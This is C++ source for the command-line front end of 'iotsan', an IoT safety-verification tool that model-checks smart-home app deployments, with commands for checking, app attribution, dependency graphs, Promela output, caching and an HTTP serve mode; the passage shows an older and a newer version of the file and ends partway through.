  std::map<std::string, std::string> extra_sources;
};

LoadedSystem LoadSystem(const std::string& path) {
  LoadedSystem out;
  const json::Value doc = json::Parse(ReadFile(path));
  out.deployment = config::ParseDeployment(doc);
  if (doc.Has("appSources")) {
    for (const auto& [name, source_path] : doc.At("appSources").AsObject()) {
      out.extra_sources[name] = ReadFile(source_path.AsString());
    }
  }
  return out;
}

core::Sanitizer MakeSanitizer(const LoadedSystem& system) {
  core::Sanitizer sanitizer(system.deployment);
  for (const auto& [name, source] : system.extra_sources) {
    sanitizer.AddAppSource(name, source);
  }
  return sanitizer;
}

std::vector<ir::AnalyzedApp> AnalyzeDeploymentApps(
    const LoadedSystem& system) {
  std::vector<ir::AnalyzedApp> apps;
  for (const config::AppConfig& instance : system.deployment.apps) {
    std::string source;
    auto it = system.extra_sources.find(instance.app);
    if (it != system.extra_sources.end()) {
      source = it->second;
    } else if (const corpus::CorpusApp* app = corpus::FindApp(instance.app)) {
      source = app->source;
    } else {
      throw ConfigError("no source for app '" + instance.app + "'");
    }
    apps.push_back(ir::AnalyzeSource(source, instance.app));
  }
  return apps;
}

void InstallProgressReporter(checker::CheckOptions& check,
                             std::uint64_t every) {
  if (every == 0) return;
  check.progress_every = every;
  check.on_progress = [](const telemetry::ProgressSnapshot& snapshot) {
    std::fprintf(stderr, "%s\n",
                 telemetry::FormatProgress(snapshot).c_str());
  };
}

std::string HumanBytes(std::uint64_t bytes) {
  char buf[48];
  if (bytes >= (1u << 20)) {
    std::snprintf(buf, sizeof(buf), "%.1f MiB",
                  static_cast<double>(bytes) / (1 << 20));
  } else if (bytes >= (1u << 10)) {
    std::snprintf(buf, sizeof(buf), "%.1f KiB",
                  static_cast<double>(bytes) / (1 << 10));
  } else {
    std::snprintf(buf, sizeof(buf), "%llu B",
                  static_cast<unsigned long long>(bytes));
  }
  return buf;
}

// ---- Violation artifacts and replay ------------------------------------------

/// Writes one artifact bundle per violation into `dir` (created on
/// demand), named `<property_id>.json`.
void WriteArtifacts(const std::string& dir,
                    const std::vector<checker::Violation>& violations,
                    const checker::CheckOptions& check,
                    const config::Deployment& deployment) {
  if (dir.empty() || violations.empty()) return;
  std::filesystem::create_directories(dir);
  const std::string hash = config::DeploymentFingerprintHex(deployment);
  for (const checker::Violation& v : violations) {
    checker::ViolationArtifact artifact =
        checker::MakeArtifact(v, check, deployment.name, hash);
    const std::string path = dir + "/" + v.property_id + ".json";
    std::ofstream out(path, std::ios::trunc);
    if (!out) throw Error("cannot write artifact: " + path);
    out << checker::ToJson(artifact).Dump(2) << '\n';
    std::printf("artifact: %s\n", path.c_str());
  }
}

/// `iotsan check <deployment.json> --replay FILE`: rebuild the model the
/// artifact was recorded against (the manifest's app subset, one
/// monolithic model) and re-execute the recorded event permutation.
int RunReplay(const CliFlags& flags, const LoadedSystem& system) {
  const json::Value doc = json::Parse(ReadFile(flags.replay_path));
  const checker::ViolationArtifact artifact =
      checker::ArtifactFromJson(doc);

  // Restrict the deployment to the apps the artifact's model contained
  // (a related set is a subset of the installed apps).
  LoadedSystem restricted = system;
  restricted.deployment.apps.clear();
  for (const config::AppConfig& app : system.deployment.apps) {
    for (const std::string& label : artifact.manifest.model_apps) {
      if (app.label == label) {
        restricted.deployment.apps.push_back(app);
        break;
      }
    }
  }
  if (restricted.deployment.apps.size() !=
      artifact.manifest.model_apps.size()) {
    throw Error("replay: deployment does not contain all apps the "
                "artifact was recorded against");
  }

  model::ModelOptions model_options;
  for (const checker::TraceStep& step : artifact.steps) {
    if (step.kind == "user_mode") model_options.user_mode_events = true;
  }
  model::SystemModel model(restricted.deployment,
                           AnalyzeDeploymentApps(restricted), model_options);
  if (!flags.properties_path.empty()) {
    std::vector<props::Property> all = props::BuiltinProperties();
    for (props::Property& p :
         props::LoadPropertiesJson(ReadFile(flags.properties_path))) {
      all.push_back(std::move(p));
    }
    model.SelectProperties(all);
  }

  checker::Checker checker(model);
  checker::ReplayResult result = checker.Replay(artifact);
  std::printf("replay: %s\n", result.message.c_str());
  std::printf("replay: %zu recorded step(s) re-executed in %.3fs\n",
              artifact.steps.size(), result.seconds);
  return result.reproduced ? 0 : 1;
}

// ---- Commands ----------------------------------------------------------------

int CmdCheck(const std::vector<std::string>& args) {
  CliFlags flags;
  std::vector<std::string> positionals = ParseFlags(kCmdCheck, args, flags);
  if (flags.help) {
    PrintHelp(stdout);
    return 0;
  }
  if (positionals.size() != 1) {
    std::fprintf(stderr, "%s\n", UsageFor(kCmdCheck).c_str());
    return 2;
  }
  checker::ResetSaturationWarning();
  LoadedSystem system = LoadSystem(positionals[0]);
  if (!flags.replay_path.empty()) {
    TelemetrySession telemetry_session(flags);
    const int status = RunReplay(flags, system);
    telemetry_session.PrintStats();
    return status;
  }
  core::Sanitizer sanitizer = MakeSanitizer(system);
  core::SanitizerOptions options;
  options.check.max_events = flags.events > 0 ? flags.events : 3;
  options.check.jobs = flags.jobs;
  options.check.model_failures = flags.failures;
  options.use_dependency_analysis = !flags.mono;
  if (flags.bitstate) {
    options.check.store = checker::StoreKind::kBitstate;
    if (flags.bitstate_bits_pow > 0) {
      options.check.bitstate_bits = std::size_t{1} << flags.bitstate_bits_pow;
    }
  }
  options.check.stop_at_first_violation = flags.first;
  options.check.reverify_bitstate = flags.reverify_bitstate;
  options.allow_dynamic_discovery = flags.allow_discovery;
  if (!flags.properties_path.empty()) {
    options.extra_properties =
        props::LoadPropertiesJson(ReadFile(flags.properties_path));
  }
  InstallProgressReporter(options.check, flags.progress_every);
  std::unique_ptr<cache::ResultCache> result_cache;
  if (!flags.cache_dir.empty()) {
    cache::CacheConfig cache_config;
    cache_config.dir = flags.cache_dir;
    result_cache = std::make_unique<cache::ResultCache>(cache_config);
    options.cache = result_cache.get();
  }

  TelemetrySession telemetry_session(flags);
  core::SanitizerReport report = sanitizer.Check(options);
  std::printf("system: %s (%zu devices, %zu apps)\n",
              system.deployment.name.c_str(),
              system.deployment.devices.size(),
              system.deployment.apps.size());
  for (const std::string& rejected : report.rejected_apps) {
    std::printf("REJECTED: %s\n", rejected.c_str());
  }
  std::printf("dependency analysis: %d handlers -> %d related sets "
              "(scale ratio %.1f)\n",
              report.scale.original_size, report.related_set_count,
              report.scale.ratio);
  std::printf("explored %llu states (%llu matched) in %.3fs%s\n",
              static_cast<unsigned long long>(report.states_explored),
              static_cast<unsigned long long>(report.states_matched),
              report.seconds, report.completed ? "" : " (budget hit)");

  if (flags.stats) {
    std::printf("\n-- search stats --\n");
    const double considered = static_cast<double>(report.states_explored +
                                                  report.states_matched);
    std::printf("states: %llu explored, %llu matched (%.1f%% pruned)\n",
                static_cast<unsigned long long>(report.states_explored),
                static_cast<unsigned long long>(report.states_matched),
                considered > 0
                    ? 100.0 * static_cast<double>(report.states_matched) /
                          considered
                    : 0.0);
    std::printf("transitions: %llu, cascade drains: %llu\n",
                static_cast<unsigned long long>(report.transitions),
                static_cast<unsigned long long>(report.cascade_drains));
    if (!report.depth_histogram.empty()) {
      std::printf("states by depth:");
      for (std::uint64_t count : report.depth_histogram) {
        std::printf(" %llu", static_cast<unsigned long long>(count));
      }
      std::printf("\n");
    }
    std::printf("store: %s, peak %s, fill ratio %.4f, est. omission "
                "probability %.3g\n",
                flags.bitstate ? "bitstate" : "exhaustive",
                HumanBytes(report.store_memory_bytes).c_str(),
                report.store_fill_ratio, report.est_omission_probability);
  }
  telemetry_session.PrintStats();

  std::printf("\n");
  if (report.violations.empty()) {
    std::printf("RESULT: no safety violations found\n");
    return 0;
  }
  for (const checker::Violation& v : report.violations) {
    std::printf("%s\n", checker::FormatViolation(v).c_str());
  }
  WriteArtifacts(flags.artifacts_dir, report.violations, options.check,
                 system.deployment);
  std::printf("RESULT: %zu violated propert%s\n", report.violations.size(),
              report.violations.size() == 1 ? "y" : "ies");
  return 1;
}

int CmdAttribute(const std::vector<std::string>& args) {
  CliFlags flags;
  std::vector<std::string> positionals =
      ParseFlags(kCmdAttribute, args, flags);
  if (flags.help) {
    PrintHelp(stdout);
    return 0;
  }
  if (positionals.size() != 2) {
    std::fprintf(stderr, "%s\n", UsageFor(kCmdAttribute).c_str());
    return 2;
  }
  checker::ResetSaturationWarning();
  std::string source;
  if (const corpus::CorpusApp* app = corpus::FindApp(positionals[0])) {
    source = app->source;
  } else {
    source = ReadFile(positionals[0]);
  }
  LoadedSystem system = LoadSystem(positionals[1]);

  attrib::AttributionOptions options;
  options.enumeration.max_configs = 24;
  options.check.max_events = flags.events > 0 ? flags.events : 2;
  options.check.jobs = flags.jobs;
  options.check.reverify_bitstate = flags.reverify_bitstate;
  options.allow_dynamic_discovery = flags.allow_discovery;
  if (flags.bitstate) {
    options.check.store = checker::StoreKind::kBitstate;
    if (flags.bitstate_bits_pow > 0) {
      options.check.bitstate_bits = std::size_t{1} << flags.bitstate_bits_pow;
    }
  }
  std::unique_ptr<cache::ResultCache> result_cache;
  if (!flags.cache_dir.empty()) {
    cache::CacheConfig cache_config;
    cache_config.dir = flags.cache_dir;
    result_cache = std::make_unique<cache::ResultCache>(cache_config);
    options.cache = result_cache.get();
  }

  TelemetrySession telemetry_session(flags);
  attrib::AttributionResult result =
      attrib::AttributeApp(source, system.deployment, options);
  dsl::App parsed = dsl::ParseApp(source);
  std::printf("%s\n", attrib::FormatAttribution(parsed.name, result).c_str());
  if (!result.safe_configs.empty()) {
    std::printf("safe configurations found: %zu\n",
                result.safe_configs.size());
  }
  WriteArtifacts(flags.artifacts_dir, result.evidence, options.check,
                 system.deployment);
  telemetry_session.PrintStats();
  return result.verdict == attrib::Verdict::kClean ? 0 : 1;
}

int CmdDeps(const std::vector<std::string>& args) {
  CliFlags flags;
  std::vector<std::string> positionals = ParseFlags(kCmdDeps, args, flags);
  if (flags.help) {
    PrintHelp(stdout);
    return 0;
  }
  if (positionals.size() != 1) {
    std::fprintf(stderr, "%s\n", UsageFor(kCmdDeps).c_str());
    return 2;
  }
  TelemetrySession telemetry_session(flags);
  LoadedSystem system = LoadSystem(positionals[0]);
  std::vector<ir::AnalyzedApp> apps = AnalyzeDeploymentApps(system);
  deps::DependencyGraph graph = deps::DependencyGraph::Build(apps);
  std::printf("%s", graph.ToDot(apps).c_str());
  std::printf("\nrelated sets:\n");
  for (const deps::RelatedSet& set : deps::ComputeRelatedSets(graph)) {
    std::printf("  {");
    for (std::size_t i = 0; i < set.vertices.size(); ++i) {
      std::printf("%s%d", i ? ", " : "", set.vertices[i]);
    }
    std::printf("}  apps:");
    for (int app : set.apps) {
      std::printf(" %s;", apps[static_cast<std::size_t>(app)].app.name.c_str());
    }
    std::printf("\n");
  }
  deps::ScaleStats stats = deps::ComputeScaleStats(apps);
  std::printf("scale: %d handlers -> %d (ratio %.1f)\n",
              stats.original_size, stats.new_size, stats.ratio);
  telemetry_session.PrintStats();
  return 0;
}

int CmdPromela(const std::vector<std::string>& args) {
  CliFlags flags;
  std::vector<std::string> positionals = ParseFlags(kCmdPromela, args, flags);
  if (flags.help) {
    PrintHelp(stdout);
    return 0;
  }
  if (positionals.size() != 1) {
    std::fprintf(stderr, "%s\n", UsageFor(kCmdPromela).c_str());
    return 2;
  }
  LoadedSystem system = LoadSystem(positionals[0]);
  promela::EmitOptions options;
  if (flags.events > 0) options.max_events = flags.events;
  std::vector<ir::AnalyzedApp> apps = AnalyzeDeploymentApps(system);
  model::SystemModel model(system.deployment, std::move(apps));
  std::printf("%s", promela::EmitPromela(model, options).c_str());
  return 0;
}

int CmdCache(const std::vector<std::string>& args) {
  if (args.size() != 2) {
    std::fprintf(stderr, "usage: iotsan cache <stats|prune|clear> <DIR>\n");
    return 2;
  }
  const std::string& action = args[0];
  const std::string& dir = args[1];
  const std::string version = build::GetBuildInfo().version;
  cache::DirStats stats;
  if (action == "stats") {
    stats = cache::ResultCache::Scan(dir, version);
  } else if (action == "prune") {
    stats = cache::ResultCache::Prune(dir, version);
  } else if (action == "clear") {
    stats = cache::ResultCache::Clear(dir);
  } else {
    std::fprintf(stderr,
                 "unknown cache action: %s (want stats, prune, or clear)\n",
                 action.c_str());
    return 2;
  }
  std::printf("cache %s (version %s, schema %s)\n", dir.c_str(),
              version.c_str(), cache::kCacheSchema);
  std::printf("  entries: %llu current (%s), %llu stale, %llu corrupt\n",
              static_cast<unsigned long long>(stats.entries),
              HumanBytes(stats.bytes).c_str(),
              static_cast<unsigned long long>(stats.stale),
              static_cast<unsigned long long>(stats.corrupt));
  if (action != "stats") {
    std::printf("  removed: %llu file(s)\n",
                static_cast<unsigned long long>(stats.removed));
  }
  return 0;
}

int CmdApps() {
  std::printf("%-32s %s\n", "name", "kind");
  for (const corpus::CorpusApp& app : corpus::AllApps()) {
    const char* kind = "market";
    if (app.kind == corpus::AppKind::kMalicious) kind = "malicious";
    if (app.kind == corpus::AppKind::kUnsupported) kind = "unsupported";
    std::printf("%-32s %s\n", app.name.c_str(), kind);
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  std::vector<std::string> args(argv + 1, argv + argc);
  if (args.empty()) {
    std::fprintf(stderr,
                 "iotsan — IoT safety sanitizer (IotSan, CoNEXT '18)\n"
                 "commands: check, attribute, deps, promela, cache, apps, "
                 "help\n"
                 "run 'iotsan help' for the full flag reference\n");
    return 2;
  }
  const std::string command = args[0];
  args.erase(args.begin());
  try {
    if (command == "check") return CmdCheck(args);
    if (command == "attribute") return CmdAttribute(args);
    if (command == "deps") return CmdDeps(args);
    if (command == "promela") return CmdPromela(args);
    if (command == "cache") return CmdCache(args);
    if (command == "apps") return CmdApps();
    if (command == "version" || command == "--version") {
      std::printf("%s\n", build::VersionLine().c_str());
      return 0;
    }
    if (command == "help" || command == "--help" || command == "-h") {
      PrintHelp(stdout);
      return 0;
    }
    std::fprintf(stderr, "unknown command: %s (see 'iotsan help')\n",
                 command.c_str());
    return 2;
  } catch (const iotsan::Error& e) {
    std::fprintf(stderr, "error: %s\n", e.what());
    return 2;
  }
}
