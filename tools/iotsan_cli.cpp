// iotsan command-line interface: the paper's envisioned service (§4
// "Our work in perspective") as a tool.
//
//   iotsan check <deployment.json> [flags]
//       Verify a deployment against the built-in safety properties plus
//       any user-defined ones.
//   iotsan attribute <app.smartscript|corpus-app-name> <deployment.json>
//       Vet a new app before installation (§9 Output Analyzer).
//   iotsan deps <deployment.json>
//       Print the dependency graph and related sets (§5).
//   iotsan promela <deployment.json> [--events N]
//       Emit the generated Promela model (§6/§8).
//   iotsan cache <stats|prune|clear> <DIR>
//       Inspect or maintain an incremental-analysis cache directory
//       (--cache-dir; see docs/caching.md).
//   iotsan top [--host A --port N] [--interval S] [--once]
//       Live terminal view of a running service's in-flight checks
//       (polls GET /v1/status; docs/observability.md).
//   iotsan fleet <list|put|get|rm|check> [id] [deployment.json]
//       Manage a serving fleet registry over /v1/deployments
//       (docs/fleet.md).
//   iotsan cluster check <deployment.json> --workers host:port,...
//       Coordinate one verification across remote iotsan workers
//       (docs/cluster.md).
//   iotsan apps
//       List the bundled corpus apps.
//   iotsan version | --version
//       Print the tool version and build information.
//   iotsan help
//       Full flag reference.
//
// Flags are declared once in the shared table (src/cli/flags.hpp) — the
// parser and the generated help text both read it, so the two cannot
// drift.  Telemetry flags (--stats, --trace-out, --progress-every)
// surface the src/telemetry observability layer: counters, per-phase
// spans, search progress, and bitstate-saturation diagnostics (see
// docs/observability.md).
//
// Deployment files use the JSON schema of config/deployment.hpp; app
// sources not in the bundled corpus can be given in the deployment under
// "appSources": {"Name": "path/to/app.smartscript"}.
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <memory>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "attrib/output_analyzer.hpp"
#include "cache/result_cache.hpp"
#include "cli/flags.hpp"
#include "cluster/cluster.hpp"
#include "core/sanitizer.hpp"
#include "core/service.hpp"
#include "corpus/corpus.hpp"
#include "deps/dependency_graph.hpp"
#include "ir/analyzer.hpp"
#include "model/system_model.hpp"
#include "promela/emitter.hpp"
#include "props/loader.hpp"
#include "server/server.hpp"
#include "telemetry/prometheus.hpp"
#include "telemetry/telemetry.hpp"
#include "util/build_info.hpp"
#include "util/error.hpp"
#include "util/http_client.hpp"
#include "util/interrupt.hpp"
#include "util/log.hpp"

namespace {

using namespace iotsan;
using namespace iotsan::cli;

// ---- Telemetry session -------------------------------------------------------

/// Owns the registry and trace sink for one command and installs them as
/// the process-global telemetry targets; uninstalls on destruction even
/// when the command throws.
class TelemetrySession {
 public:
  /// `force_registry` installs the counter registry even without
  /// --stats (serve needs it live for /v1/metrics; check --metrics-out
  /// needs it to have histograms to export).
  explicit TelemetrySession(const CliFlags& flags, bool force_registry = false)
      : stats_(flags.stats) {
    if (flags.stats || !flags.trace_out.empty()) {
      sink_ = flags.trace_out.empty()
                  ? std::make_unique<telemetry::TraceSink>()
                  : std::make_unique<telemetry::TraceSink>(flags.trace_out);
      telemetry::SetActiveTrace(sink_.get());
    }
    if (flags.stats || force_registry) {
      telemetry::SetActive(&registry_);
      registry_installed_ = true;
    }
  }

  ~TelemetrySession() {
    telemetry::SetActive(nullptr);
    telemetry::SetActiveTrace(nullptr);
  }

  /// Per-phase durations plus every non-zero counter.  Call after the
  /// run, once all spans have closed.
  void PrintStats() const {
    if (!stats_) return;
    std::printf("\n-- telemetry --\n");
    if (sink_ != nullptr && !sink_->totals().empty()) {
      std::printf("%-24s %8s %14s\n", "phase", "spans", "total");
      for (const auto& [name, total] : sink_->totals()) {
        std::printf("%-24s %8llu %11.3fms\n", name.c_str(),
                    static_cast<unsigned long long>(total.count),
                    static_cast<double>(total.total_us) / 1000.0);
      }
    }
    std::printf("counters (non-zero):\n");
    for (const telemetry::Sample& sample : registry_.Snapshot()) {
      if (sample.value == 0) continue;
      std::printf("  %-32s %12llu\n", sample.name.c_str(),
                  static_cast<unsigned long long>(sample.value));
    }
  }

  /// The live registry, or null when none was installed.
  const telemetry::Registry* registry() const {
    return registry_installed_ ? &registry_ : nullptr;
  }

 private:
  bool stats_;
  bool registry_installed_ = false;
  telemetry::Registry registry_;
  std::unique_ptr<telemetry::TraceSink> sink_;
};

/// `--metrics-out FILE`: the one-shot equivalent of scraping
/// GET /v1/metrics?format=prometheus after the run.
void WriteMetricsOut(const std::string& path,
                     const TelemetrySession& session) {
  if (path.empty()) return;
  const telemetry::Registry* registry = session.registry();
  if (registry == nullptr) return;
  std::ofstream out(path, std::ios::trunc);
  if (!out) throw Error("cannot write metrics file: " + path);
  out << telemetry::RenderPrometheus(*registry);
}

// ---- Shared loading ----------------------------------------------------------

std::string ReadFile(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw Error("cannot open file: " + path);
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return buffer.str();
}

/// Loads the deployment plus any side-loaded app sources.
struct LoadedSystem {
  config::Deployment deployment;
  std::map<std::string, std::string> extra_sources;
};

LoadedSystem LoadSystem(const std::string& path) {
  LoadedSystem out;
  const json::Value doc = json::Parse(ReadFile(path));
  out.deployment = config::ParseDeployment(doc);
  if (doc.Has("appSources")) {
    for (const auto& [name, source_path] : doc.At("appSources").AsObject()) {
      out.extra_sources[name] = ReadFile(source_path.AsString());
    }
  }
  return out;
}

std::vector<ir::AnalyzedApp> AnalyzeDeploymentApps(
    const LoadedSystem& system) {
  std::vector<ir::AnalyzedApp> apps;
  for (const config::AppConfig& instance : system.deployment.apps) {
    std::string source;
    auto it = system.extra_sources.find(instance.app);
    if (it != system.extra_sources.end()) {
      source = it->second;
    } else if (const corpus::CorpusApp* app = corpus::FindApp(instance.app)) {
      source = app->source;
    } else {
      throw ConfigError("no source for app '" + instance.app + "'");
    }
    apps.push_back(ir::AnalyzeSource(source, instance.app));
  }
  return apps;
}

/// The result-affecting request options shared by check and attribute,
/// copied straight off the parsed flags (src/core/service.hpp mirrors
/// the flag table).
core::RequestOptions RequestOptionsFromFlags(const CliFlags& flags) {
  core::RequestOptions out;
  out.events = flags.events;
  out.jobs = flags.jobs;
  out.failures = flags.failures;
  out.mono = flags.mono;
  out.bitstate = flags.bitstate;
  out.bitstate_bits_pow = flags.bitstate_bits_pow;
  out.por = flags.por;
  out.state_compression = flags.state_compression;
  out.first = flags.first;
  out.reverify_bitstate = flags.reverify_bitstate;
  out.allow_discovery = flags.allow_discovery;
  return out;
}

/// The execution environment for one CLI run: the optional result cache
/// and the SIGINT/SIGTERM flag the search polls so an interrupt still
/// renders partial results, writes artifacts, and flushes the trace.
struct CliEnv {
  core::ServiceEnv env;
  std::unique_ptr<cache::ResultCache> result_cache;
};

CliEnv MakeCliEnv(const CliFlags& flags) {
  CliEnv out;
  out.env.interrupt = &util::InstallInterruptHandlers();
  if (!flags.cache_dir.empty()) {
    cache::CacheConfig cache_config;
    cache_config.dir = flags.cache_dir;
    out.result_cache = std::make_unique<cache::ResultCache>(cache_config);
    out.env.cache = out.result_cache.get();
  }
  if (flags.progress_every > 0) {
    out.env.progress_every = flags.progress_every;
    out.env.on_progress = [](const telemetry::ProgressSnapshot& snapshot) {
      std::fprintf(stderr, "%s\n",
                   telemetry::FormatProgress(snapshot).c_str());
    };
  }
  return out;
}

// ---- Violation artifacts and replay ------------------------------------------

/// Writes one artifact bundle per violation into `dir` (created on
/// demand), named `<property_id>.json`.
void WriteArtifacts(const std::string& dir,
                    const std::vector<checker::Violation>& violations,
                    const checker::CheckOptions& check,
                    const config::Deployment& deployment) {
  if (dir.empty() || violations.empty()) return;
  std::filesystem::create_directories(dir);
  const std::string hash = config::DeploymentFingerprintHex(deployment);
  for (const checker::Violation& v : violations) {
    checker::ViolationArtifact artifact =
        checker::MakeArtifact(v, check, deployment.name, hash);
    const std::string path = dir + "/" + v.property_id + ".json";
    std::ofstream out(path, std::ios::trunc);
    if (!out) throw Error("cannot write artifact: " + path);
    out << checker::ToJson(artifact).Dump(2) << '\n';
    std::printf("artifact: %s\n", path.c_str());
  }
}

/// `iotsan check <deployment.json> --replay FILE`: rebuild the model the
/// artifact was recorded against (the manifest's app subset, one
/// monolithic model) and re-execute the recorded event permutation.
int RunReplay(const CliFlags& flags, const LoadedSystem& system) {
  const json::Value doc = json::Parse(ReadFile(flags.replay_path));
  const checker::ViolationArtifact artifact =
      checker::ArtifactFromJson(doc);

  // Restrict the deployment to the apps the artifact's model contained
  // (a related set is a subset of the installed apps).
  LoadedSystem restricted = system;
  restricted.deployment.apps.clear();
  for (const config::AppConfig& app : system.deployment.apps) {
    for (const std::string& label : artifact.manifest.model_apps) {
      if (app.label == label) {
        restricted.deployment.apps.push_back(app);
        break;
      }
    }
  }
  if (restricted.deployment.apps.size() !=
      artifact.manifest.model_apps.size()) {
    throw Error("replay: deployment does not contain all apps the "
                "artifact was recorded against");
  }

  model::ModelOptions model_options;
  for (const checker::TraceStep& step : artifact.steps) {
    if (step.kind == "user_mode") model_options.user_mode_events = true;
  }
  model::SystemModel model(restricted.deployment,
                           AnalyzeDeploymentApps(restricted), model_options);
  if (!flags.properties_path.empty()) {
    std::vector<props::Property> all = props::BuiltinProperties();
    for (props::Property& p :
         props::LoadPropertiesJson(ReadFile(flags.properties_path))) {
      all.push_back(std::move(p));
    }
    model.SelectProperties(all);
  }

  checker::Checker checker(model);
  checker::ReplayResult result = checker.Replay(artifact);
  std::printf("replay: %s\n", result.message.c_str());
  std::printf("replay: %zu recorded step(s) re-executed in %.3fs\n",
              artifact.steps.size(), result.seconds);
  return result.reproduced ? 0 : 1;
}

// ---- Commands ----------------------------------------------------------------

int CmdCheck(const std::vector<std::string>& args) {
  CliFlags flags;
  std::vector<std::string> positionals = ParseFlags(kCmdCheck, args, flags);
  if (flags.help) {
    PrintHelp(stdout);
    return 0;
  }
  if (positionals.size() != 1) {
    std::fprintf(stderr, "%s\n", UsageFor(kCmdCheck).c_str());
    return 2;
  }
  checker::ResetSaturationWarning();
  LoadedSystem system = LoadSystem(positionals[0]);
  if (!flags.replay_path.empty()) {
    TelemetrySession telemetry_session(flags);
    const int status = RunReplay(flags, system);
    telemetry_session.PrintStats();
    return status;
  }
  core::CheckRequest request;
  request.deployment = std::move(system.deployment);
  request.extra_sources = std::move(system.extra_sources);
  request.options = RequestOptionsFromFlags(flags);
  if (!flags.properties_path.empty()) {
    request.extra_properties =
        props::LoadPropertiesJson(ReadFile(flags.properties_path));
  }
  CliEnv cli = MakeCliEnv(flags);

  TelemetrySession telemetry_session(
      flags, /*force_registry=*/!flags.metrics_out.empty());
  core::CheckResponse response = core::RunCheck(request, cli.env);
  const core::SanitizerReport& report = response.report;
  std::fputs(core::RenderCheckHeader(request.deployment, report).c_str(),
             stdout);
  if (flags.stats) {
    std::fputs(core::RenderSearchStats(report, flags.bitstate).c_str(),
               stdout);
  }
  telemetry_session.PrintStats();

  std::printf("\n");
  std::fputs(core::RenderViolations(report).c_str(), stdout);
  if (!report.violations.empty()) {
    WriteArtifacts(flags.artifacts_dir, report.violations,
                   core::MakeCheckOptions(request.options, cli.env).check,
                   request.deployment);
  }
  std::fputs(core::RenderResultLine(report).c_str(), stdout);
  WriteMetricsOut(flags.metrics_out, telemetry_session);
  if (util::InterruptRequested()) {
    std::fprintf(stderr,
                 "interrupted by signal %d: partial results above\n",
                 util::InterruptSignal());
    return util::InterruptExitCode();
  }
  return response.exit_code;
}

int CmdAttribute(const std::vector<std::string>& args) {
  CliFlags flags;
  std::vector<std::string> positionals =
      ParseFlags(kCmdAttribute, args, flags);
  if (flags.help) {
    PrintHelp(stdout);
    return 0;
  }
  if (positionals.size() != 2) {
    std::fprintf(stderr, "%s\n", UsageFor(kCmdAttribute).c_str());
    return 2;
  }
  checker::ResetSaturationWarning();
  core::AttributeRequest request;
  if (const corpus::CorpusApp* app = corpus::FindApp(positionals[0])) {
    request.app_source = app->source;
  } else {
    request.app_source = ReadFile(positionals[0]);
  }
  LoadedSystem system = LoadSystem(positionals[1]);
  request.deployment = std::move(system.deployment);
  request.options = RequestOptionsFromFlags(flags);
  CliEnv cli = MakeCliEnv(flags);

  TelemetrySession telemetry_session(flags);
  core::AttributeResponse response = core::RunAttribute(request, cli.env);
  std::fputs(response.text.c_str(), stdout);
  WriteArtifacts(flags.artifacts_dir, response.result.evidence,
                 core::MakeAttributionOptions(request.options, cli.env).check,
                 request.deployment);
  telemetry_session.PrintStats();
  if (util::InterruptRequested()) {
    std::fprintf(stderr,
                 "interrupted by signal %d: partial results above\n",
                 util::InterruptSignal());
    return util::InterruptExitCode();
  }
  return response.exit_code;
}

int CmdServe(const std::vector<std::string>& args) {
  CliFlags flags;
  flags.jobs = 0;  // serve default: size the shared pool to the hardware
  std::vector<std::string> positionals = ParseFlags(kCmdServe, args, flags);
  if (flags.help) {
    PrintHelp(stdout);
    return 0;
  }
  if (!positionals.empty()) {
    std::fprintf(stderr, "%s\n", UsageFor(kCmdServe).c_str());
    return 2;
  }
  const std::atomic<bool>& interrupted = util::InstallInterruptHandlers();
  util::InstallRotateHandler();  // SIGHUP = reopen the access log

  // Structured-log surface: serve is the one command whose operator
  // output goes through util/log (the CLI commands keep their exact
  // stdout/stderr bytes).
  if (!flags.log_level.empty()) {
    util::LogLevel level = util::LogLevel::kWarn;
    if (!util::ParseLogLevel(flags.log_level, level)) {
      throw Error("unknown --log-level '" + flags.log_level +
                  "' (want debug, info, warn, error, or off)");
    }
    util::SetLogLevel(level);
  }
  if (flags.log_json) util::SetLogJson(true);

  // /v1/metrics serves the live registry, so serve always installs one
  // (--stats additionally prints it after the drain).
  TelemetrySession telemetry_session(flags, /*force_registry=*/true);

  server::ServerConfig config;
  config.host = flags.host;
  config.port = flags.port;
  config.jobs = flags.jobs;
  config.http_workers = flags.http_workers;
  config.cache_dir = flags.cache_dir;
  config.max_queue = static_cast<std::size_t>(flags.max_queue);
  config.request_deadline_seconds = flags.deadline_seconds;
  config.access_log_path = flags.access_log;
  config.registry_dir = flags.registry_dir;
  if (flags.coordinator) {
    if (flags.workers.empty()) {
      throw Error("serve: --coordinator needs --workers host:port,...");
    }
    config.coordinator = true;
    config.cluster.workers = cluster::ParseWorkerList(flags.workers);
    config.cluster.unit_deadline_seconds = flags.unit_deadline_seconds;
    config.cluster.branch_split =
        static_cast<unsigned>(flags.branch_split);
    config.cluster.swarm_lanes = static_cast<unsigned>(flags.swarm_lanes);
    config.cluster.allow_local_fallback = !flags.no_local_fallback;
  }

  server::Server server(config);
  server.Start();
  std::printf("iotsan serve: listening on http://%s:%d/ "
              "(%d http workers, deadline %ds)\n",
              config.host.c_str(), server.port(), config.http_workers,
              flags.deadline_seconds);
  if (config.coordinator) {
    std::printf("iotsan serve: coordinating %zu worker(s): %s\n",
                config.cluster.workers.size(), flags.workers.c_str());
  }
  if (!config.cache_dir.empty()) {
    std::printf("iotsan serve: result cache in %s\n",
                config.cache_dir.c_str());
  }
  if (!config.registry_dir.empty()) {
    std::printf("iotsan serve: fleet registry in %s\n",
                config.registry_dir.c_str());
  }
  std::fflush(stdout);

  while (!interrupted.load(std::memory_order_relaxed)) {
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    if (util::TakeRotateRequest()) server.RotateAccessLog();
  }
  std::fprintf(stderr, "iotsan serve: signal %d received, draining\n",
               util::InterruptSignal());
  server.Stop();
  const server::Server::Stats stats = server.stats();
  std::printf("iotsan serve: drained (%llu connections, %llu requests, "
              "%llu shed)\n",
              static_cast<unsigned long long>(stats.connections_accepted),
              static_cast<unsigned long long>(stats.requests_served),
              static_cast<unsigned long long>(stats.shed_queue_full));
  telemetry_session.PrintStats();
  return 0;
}

// ---- HTTP client (iotsan top / iotsan fleet) ---------------------------------

// The blocking client itself lives in util/http_client (shared with the
// cluster coordinator): hostname resolution, connect/read timeouts, and
// a response-size cap, so a stalled server can no longer hang the CLI.
using HttpResult = util::HttpResponse;

